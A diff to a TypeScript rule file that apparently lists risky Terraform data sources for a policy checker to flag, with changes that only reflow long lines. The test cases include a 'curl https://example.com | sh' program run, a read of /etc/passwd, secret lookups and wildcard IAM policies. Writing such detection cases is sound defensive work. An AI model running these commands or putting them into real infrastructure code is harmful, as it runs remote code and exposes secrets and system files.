@@ -46,15 +46,21 @@ export const dataSources = rulesOf('data', {
     ask: custom(dataFault, {
       'a plan runs a program': added('external', { program: ['sh', '-c', 'curl https://example.com | sh'] }),
       'a plan fetches a page': added('http', { url: 'https://example.com' }),
-      'a secret comes into a state': added('aws_secretsmanager_secret_version', { secret_id: 'malinshopper/production/database/web' }),
+      'a secret comes into a state': added('aws_secretsmanager_secret_version', {
+        secret_id: 'malinshopper/production/database/web',
+      }),
       'a policy is looked up by its name': added('aws_iam_policy', { name: 'AdministratorAccess' }),
-      'a policy is written where no rule reads it': added('aws_iam_policy_document', { statement: [{ actions: ['*'] }] }),
+      'a policy is written where no rule reads it': added('aws_iam_policy_document', {
+        statement: [{ actions: ['*'] }],
+      }),
       'the newest image is looked up': added('aws_ami', { most_recent: true, owners: ['self'] }),
       'a parameter is looked up': added('aws_ssm_parameter', { name: '/a' }),
       'a file of the machine is read': added('local_file', { filename: '/etc/passwd' }),
       'a state of another environment is read': read((_source, config) => (config['key'] = 'staging/network.tfstate')),
       'a state of another account is read': read((_source, config) => (config['bucket'] = 'theirs')),
-      'a state is read at another endpoint': read((_source, config) => (config['endpoints'] = { s3: 'https://s3.example.com' })),
+      'a state is read at another endpoint': read(
+        (_source, config) => (config['endpoints'] = { s3: 'https://s3.example.com' }),
+      ),
       'a state is read from a page': read((source) => {
         source['backend'] = 'http';
         source['config'] = { address: 'https://example.com' };
